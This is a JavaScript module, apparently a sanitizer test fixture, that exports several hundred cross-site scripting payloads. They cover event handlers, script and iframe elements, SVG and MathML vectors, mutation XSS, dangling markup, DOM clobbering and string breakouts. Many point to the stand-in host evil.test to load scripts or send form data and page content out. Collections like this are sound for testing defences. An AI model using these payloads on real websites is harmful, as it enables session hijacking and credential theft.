/** Code that says so when it runs, without a quote that would end the attribute around it. */
const run = 'window.__xss=1,alert(1)';

const handlers = [
  `<img src=x onerror=${run}>`, `<IMG SRC=x OnErRoR=${run}>`, `<img/src=x/onerror=${run}>`, `<img src=x\fonerror=${run}>`, `<img src=x\u000Bonerror=${run}>`,
  `<img src="x" "onerror=${run}">`, `<img src=\`x\`onerror=${run}>`, `<img src=x onerror="&#119;indow.__xss=1">`, `<img src=x onerror=\\u0077indow.__xss=1>`,
  `<image src=x onerror=${run}>`, `<img srcset=x onerror=${run}>`, `<img src=x onload=${run} onerror=${run} onloadstart=${run}>`, `<img src=x style=x:x onerror='${run}'`,
  `<body onload=${run}>`, `<body onpageshow=${run} onhashchange=${run}>`, `<html onmouseenter=${run}>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`, `<button autofocus onfocus=${run}>x</button>`, `<p contenteditable autofocus onfocus=${run}>x</p>`,
  `<a href=# onclick=${run}>x</a>`, `<b onpointerover=${run} onmouseover=${run}>x</b>`, `<i tabindex=1 onfocusin=${run} autofocus>x</i>`, `<u onanimationstart=${run} style=animation-name:x>x</u>`,
  `<em ontransitionend=${run} style=transition:1s>x</em>`, `<details open ontoggle=${run}>x</details>`, `<dialog open onclose=${run}>x</dialog>`, `<p popover id=pop onbeforetoggle=${run}>x</p>`,
  `<marquee onstart=${run}>x</marquee>`, `<video src=x onerror=${run}></video>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<video poster=javascript:${run}>`,
  `<p onscrollsnapchange=${run} oncontentvisibilityautostatechange=${run} style=content-visibility:auto>x</p>`, `<input type=image src=x onerror=${run}>`, `<track onerror=${run} default src=x>`,
];

const elements = [
  `<script>${run}</script>`, `<script src=//evil.test/x.js></script>`, `<script src="data:text/javascript,${run}"></script>`, `<script type=module>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type=importmap>{"imports":{"react":"//evil.test"}}</script>`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/logout"]}]}</script>`, `<script\u2028>${run}</script\u2028>`,
  `<iframe src=javascript:${run}></iframe>`, `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`, `<iframe srcdoc=&lt;script&gt;parent.__xss=1&lt;/script&gt;></iframe>`, `<iframe src=//evil.test></iframe>`,
  `<iframe onload=${run}></iframe>`, `<frameset onload=${run}><frame src=javascript:${run}></frameset>`, `<object data=javascript:${run}></object>`, `<object data="data:text/html,<script>parent.__xss=1</script>"></object>`,
  `<embed src=javascript:${run}>`, `<embed src=//evil.test/x.swf>`, `<applet code=x></applet>`, `<portal src=//evil.test></portal>`, `<fencedframe></fencedframe>`,
  `<template><img src=x onerror=${run}></template>`, `<template shadowrootmode=open><img src=x onerror=${run}></template>`, `<slot onslotchange=${run}><b>x</b></slot>`,
  `<base href=//evil.test/>`, `<base target=_top href=javascript:/>`, `<meta http-equiv=refresh content="0;url=//evil.test">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta name=referrer content=unsafe-url>`, `<link rel=stylesheet href=//evil.test/x.css>`, `<link rel=preload as=script href=//evil.test/x.js>`,
  `<link rel=dns-prefetch href=//evil.test>`, `<link rel=import href=//evil.test>`, `<link rel=modulepreload href=//evil.test/x.js onload=${run}>`,
  `<form action=javascript:${run}><input type=submit></form>`, `<form action=//evil.test><input name=password></form>`, `<button form=login formaction=//evil.test>x</button>`, `<input type=submit formaction=javascript:${run}>`,
  `<isindex action=javascript:${run} type=submit>`, `<keygen autofocus onfocus=${run}>`, `<style>*{background:url(//evil.test/s)}</style>`, `<style>@import '//evil.test/x.css';</style>`, `<style onload=${run}></style>`,
  `<b style="background:url(//evil.test/b)">x</b>`, `<b style="position:fixed;inset:0;z-index:9999">x</b>`, `<b style="behavior:url(#x);-moz-binding:url(//evil.test)">x</b>`, `<a href=/pricing ping=//evil.test>x</a>`, `<a href=/pricing attributionsrc=//evil.test target=_top>x</a>`,
];

const foreign = [
  `<svg onload=${run}>`, `<svg/onload=${run}//`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:,${run}"/></svg>`, `<svg><a href=javascript:${run}><text y=20>x</text></a></svg>`,
  `<svg><a xlink:href=javascript:${run}><rect width=9 height=9 /></a></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`, `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
  `<svg><set attributeName=href to=javascript:${run}></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${run} /></svg>#x"></svg>`, `<svg><image href=x onerror=${run}></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`, `<svg><style>*{fill:url(//evil.test/f)}</style></svg>`, `<svg><feImage href=//evil.test/i></svg>`, `<svg><discard onbegin=${run}></svg>`,
  `<math href=javascript:${run}>x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>`, `<math><mi xlink:href="data:x,<script>${run}</script>">x</mi></math>`, `<math><annotation-xml encoding=text/html><img src=x onerror=${run}></annotation-xml></math>`,
];

/** Becomes something else when it is parsed, written and parsed again. */
const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`, `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<noembed><p title="</noembed><img src=x onerror=${run}>">`, `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${run}>">`, `<svg><desc><style><img src=x onerror=${run}></style></desc></svg>`, `<math><mi><!--</mi><img src=x onerror=${run}>--></math>`, `<!--><img src=x onerror=${run}>-->`, `<!--!><img src=x onerror=${run}>--!>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml-stylesheet ><img src=x onerror=${run}> ?>`, `<?php echo '<img src=x onerror=${run}>' ?>`, `<%00img src=x onerror=${run}>`, `<p id="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</p>`,
  `<select><option><style></select><img src=x onerror=${run}></style>`, `<table><tr><td><svg><desc><table><img src=x onerror=${run}>`, `<a href="/a"><table><td><a href="javascript:${run}">x</a></table></a>`, `<p a="\`><img src=x onerror=${run}>\`">x</p>`,
  `<plaintext><img src=x onerror=${run}>`, `<b <script>${run}</script>>x</b>`, `<<img src=x onerror=${run}>`, `</p/x><img src=x onerror=${run}>`, `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
];

/** Swallows what follows, or takes the place of what scripts look for. */
const dangling = [
  `<img src='//evil.test/?`, `<a href='//evil.test/?`, `<form action=//evil.test><textarea name=x>`, `<meta http-equiv=refresh content='0;url=//evil.test/?`, `<base target='`, `<button form=x formaction='//evil.test?`, `<option><input value='`,
  `<b id=root>x</b>`, `<a id=bootstrap href=//evil.test>x</a>`, `<form id=clobbered><input name=attributes><input name=childNodes></form>`, `<img name=cookie><img name=getElementById>`, `<form name=body><input name=parentNode></form>`,
  `<a id=defaultView><a id=defaultView name=location href=//evil.test>x</a></a>`, `<output id=theme>x</output>`, `<iframe name=self></iframe>`, `<b is=clobbered-x id=__proto__>x</b>`,
];

/** What ends strings, lines, scripts and comments around it, and what reads differently from what it is. */
const ends = [
  `</script><script>${run}</script>`, `</SCRIPT ><script>${run}</script>`, `<!--<script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `</style><script>${run}</script>`, `</title><script>${run}</script>`, `\u2028${run}\u2029//`,
  `";${run};//`, `';${run};//`, `\\";${run};//`, `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `</textarea><img src=x onerror=${run}>`, `"><svg onload=${run}>`, `'><svg onload=${run}>`, `\`><svg onload=${run}>`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`, `\u202E<img src=x onerror=${run}>`, `\uD800<img src=x onerror=${run}>\uDFFF`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `%3Cscript%3E${run}%3C/script%3E`, `&lt;script&gt;${run}&lt;/script&gt;`, `\u0000<img src=x onerror=${run}>`,
  `\u001B$B<img src=x onerror=${run}>\u001B(B`, `:name<img src=x onerror=${run}>:values`, `javascript:${run}`,
];

export const markup = [...handlers, ...elements, ...foreign, ...mutations, ...dangling, ...ends];
